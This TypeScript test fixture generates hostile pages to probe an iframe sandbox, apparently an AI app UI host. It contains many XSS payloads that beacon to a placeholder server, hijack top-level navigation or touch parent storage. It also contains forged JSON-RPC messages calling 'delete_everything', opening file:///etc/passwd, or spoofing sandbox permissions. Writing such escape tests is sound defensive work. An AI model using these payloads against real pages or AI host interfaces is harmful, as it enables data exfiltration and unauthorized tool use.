// Ways out of a sandbox: each effect is a script that reaches for something outside of it, each way is how a hostile
// page gets a script to run. `{at}` is an address at a server that must never be asked.

/** Scripts that ask the network, by names that tell the address. */
const requests: readonly string[] = [
  'fetch("{at}")',
  'fetch("{at}", { mode: "no-cors", keepalive: true })',
  'const x = new XMLHttpRequest(); x.open("GET", "{at}"); x.send()',
  'navigator.sendBeacon("{at}", "x")',
  'new WebSocket("{at}".replace("http", "ws"))',
  'new EventSource("{at}")',
  'new Image().src = "{at}"',
  'new Audio("{at}").load()',
  'import("{at}")',
  'new Worker("{at}")',
  'new SharedWorker("{at}")',
  'navigator.serviceWorker.register("{at}")',
  'new Worker(URL.createObjectURL(new Blob(["fetch(\'{at}\')"])))',
  'new Worker(URL.createObjectURL(new Blob(["importScripts(\'{at}\')"])))',
  'new FontFace("x", "url({at})").load()',
  'CSS.paintWorklet.addModule("{at}")',
  'new AudioContext().audioWorklet.addModule("{at}")',
  'new WebTransport("{at}".replace("http:", "https:"))',
  'navigator.credentials.get({ identity: { providers: [{ configURL: "{at}", clientId: "x" }] } })',
  'put("<script src={at}></" + "script>")',
  'const s = document.createElement("script"); s.src = "{at}"; document.head.append(s)',
  'const s = document.createElement("script"); s.type = "module"; s.textContent = "import \'{at}\'"; document.head.append(s)',
  'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["{at}"] }], prerender: [{ source: "list", urls: ["{at}"] }] }); document.head.append(s)',
  'put("<link rel=stylesheet href={at}>")',
  'put("<link rel=preload as=image href={at}>")',
  'put("<link rel=modulepreload href={at}>")',
  'put("<link rel=prefetch href={at}>")',
  'put("<link rel=preconnect href={at}>")',
  'put("<link rel=icon href={at}>")',
  'put("<link rel=manifest href={at}>")',
  'put("<style>@import \'{at}\'</style>")',
  'put("<style>body{background:url({at})}</style>")',
  'put("<style>@font-face{font-family:x;src:url({at})}body{font-family:x}</style>x")',
  'document.body.style.cursor = "url({at}), auto"; document.body.style.listStyleImage = "url({at})"',
  'put("<video poster={at} src={at} autoplay></video>")',
  'put("<video><track default src={at}></video>")',
  'put("<picture><source srcset={at}><img></picture>")',
  'put("<input type=image src={at}>")',
  'put("<svg><image href={at} width=9 height=9 /></svg>")',
  'put("<svg><use href={at}#x /></svg>")',
  'put("<svg><filter id=f><feImage href={at} /></filter><rect filter=url(#f) width=9 height=9 /></svg>")',
  'put("<object data={at}></object>")',
  'put("<embed src={at}>")',
  'put("<table background={at}><td>x")',
  'put("<iframe src={at}></iframe>")',
  'put("<iframe srcdoc=\'<img src={at}>\'></iframe>")',
  'put("<iframe srcdoc=\'<script>location = `{at}`</" + "script>\'></iframe>")',
  'put("<iframe srcdoc=\'<meta http-equiv=refresh content=0;url={at}>\'></iframe>")',
  'const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = "{at}"',
  'const f = document.createElement("iframe"); f.src = "data:text/html,<img src={at}>"; document.body.append(f)',
  'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<img src={at}>"], { type: "text/html" })); document.body.append(f)',
];

/** Scripts that send the app's own frame, or another, somewhere. */
const journeys: readonly string[] = [
  'location = "{at}"',
  'location.href = "{at}"',
  'location.assign("{at}")',
  'location.replace("{at}")',
  'document.location = "{at}"',
  'navigation.navigate("{at}")',
  'location = "data:text/html,<img src={at}>"',
  'location = URL.createObjectURL(new Blob(["<script>fetch(`{at}`)</" + "script>"], { type: "text/html" }))',
  'location = "javascript:void fetch(`{at}`)"',
  'window.open("{at}")',
  'window.open("{at}", "_self")',
  'window.open("{at}", "_parent")',
  'window.open("{at}", "_top")',
  'top.location = "{at}"',
  'top.location.href = "{at}"',
  'top.location.replace("{at}")',
  'parent.location = "{at}"',
  'parent.parent.location.assign("{at}")',
  'top.frames[0].location = "{at}"',
  'for (let i = 0; i < top.frames.length; i++) top.frames[i].location = "{at}"',
  'press("<a href={at}>x</a>")',
  'press("<a href={at} target=_top>x</a>")',
  'press("<a href={at} target=_parent>x</a>")',
  'press("<a href={at} target=_blank rel=opener>x</a>")',
  'press("<a href={at} download=x>x</a>")',
  'press("<a href=# ping={at}>x</a>")',
  'press("<base href={at}><a href=x>x</a>")',
  'press("<base target=_top><a href={at}>x</a>")',
  'press("<form action={at}><button>x</button></form>")',
  'press("<form action={at} method=post target=_top><button>x</button></form>")',
  'press("<form><button formaction={at} formtarget=_blank>x</button></form>")',
  'put("<form action={at}></form>"); document.forms[0].submit()',
  'put("<meta http-equiv=refresh content=0;url={at}>")',
  'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url={at}"; document.head.append(m)',
  'put("<meta http-equiv=Content-Security-Policy content=\'default-src *\'>"); fetch("{at}")',
  'document.open(); document.write("<img src={at}>"); document.close()',
];

/** Scripts that reach for the page around, for storage or for its user. */
const reaches: readonly string[] = [
  'top.document.title = "taken"',
  'parent.parent.document.body.innerHTML = "taken"',
  'frameElement.ownerDocument.title = "taken"',
  'parent.frameElement.remove()',
  'top.name = "taken"',
  'top.asked.push("onError: taken")',
  'top.localStorage.setItem("taken", "1")',
  'localStorage.setItem("taken", "1")',
  'sessionStorage.setItem("taken", "1")',
  'document.cookie = "taken=1"; cookieStore.set("taken", "1")',
  'indexedDB.open("taken")',
  'caches.open("taken")',
  'document.domain = "127.0.0.1"; top.document.title = "taken"',
  'new BroadcastChannel("page").postMessage("taken")',
  'top.history.back(); top.history.pushState(0, "", "/taken")',
  'top.close(); top.stop(); top.focus(); top.print()',
  'alert("taken"); confirm("taken"); prompt("taken"); print()',
  'window.addEventListener("beforeunload", (e) => { e.preventDefault(); e.returnValue = "taken" }); location.reload()',
  'document.documentElement.requestFullscreen(); document.body.requestPointerLock()',
  'navigator.clipboard.writeText("taken"); document.execCommand("copy")',
  'navigator.geolocation.getCurrentPosition(() => fetch("{at}")); navigator.mediaDevices.getUserMedia({ audio: true }).then(() => fetch("{at}"))',
  'Notification.requestPermission().then((x) => x === "granted" && fetch("{at}"))',
  'ask("tools/call", { name: "delete_everything", arguments: {} })',
  'ask("tools/call", { name: ["refresh"], arguments: {} })',
  'ask("tools/call", { name: { toString: "refresh" } })',
  'ask("tools/call", JSON.parse(\'{"__proto__": {"name": "refresh"}}\'))',
  'ask("ui/open-link", { url: "{at}" })',
  'ask("ui/open-link", { url: "javascript:document.title=`taken`" })',
  'ask("ui/open-link", { url: "data:text/html,taken" })',
  'ask("ui/open-link", { url: "blob:null/taken" })',
  'ask("ui/open-link", { url: "file:///etc/passwd" })',
  'ask("ui/open-link", { url: ["{at}"] })',
  'ask("sampling/createMessage", { messages: [] })',
  'ask("constructor", {}); ask("__proto__", {}); ask("toString", {})',
  'ask("resources/read", { uri: { toString: 1 } })',
  'top.postMessage({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "refresh" } }, "*")',
  'top.postMessage({ jsonrpc: "2.0", id: 1, method: "ui/message", params: { content: [] } }, "*")',
  'parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-proxy-ready", params: { html: "<img src={at}>" } }, "*")',
  'parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html: "<script>fetch(`{at}`)</" + "script>", sandbox: "allow-same-origin allow-scripts", allow: "" } }, "*")',
  'parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/size-changed", params: { height: 1e9, width: 1e9 } }, "*")',
];

/** Ways in which a page gets a script to run. */
const ways: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror="${attribute(script)}">`,
  (script) => `<iframe srcdoc="${attribute(`<script>${prelude}${script}</script>`)}"></iframe>`,
];

/** What the scripts use: `put` writes markup, `press` presses what it wrote, `ask` asks the host. */
const prelude = `
const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
const press = (html) => { put(html); document.body.querySelector('a:last-of-type,button').click(); };
const ask = (method, params) => window.parent.postMessage({ jsonrpc: '2.0', id: method, method, params }, '*');
`;

function attribute(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
}

/** A hostile page, and what it tries. */
export interface Escape {
  readonly script: string;
  readonly html: string;
}

/** All hostile pages: each script in each way; the name in the address tells who asked. */
export function escapes(server: string): readonly Escape[] {
  return [...requests, ...journeys, ...reaches].flatMap((script, which) =>
    ways.map((way, index) => {
      const body = script.replaceAll('{at}', `${server}/escape-${which}-${index}`);
      return { script: body, html: `<script>${prelude}</script><body>${way(body)}` };
    }),
  );
}

/** A page that only tells the log, in each way, that its script has run. */
export function harmless(): readonly Escape[] {
  const script = 'ask("ui/message", { content: ["ran"] })';
  return ways.map((way) => ({ script, html: `<script>${prelude}</script><body>${way(script)}` }));
}
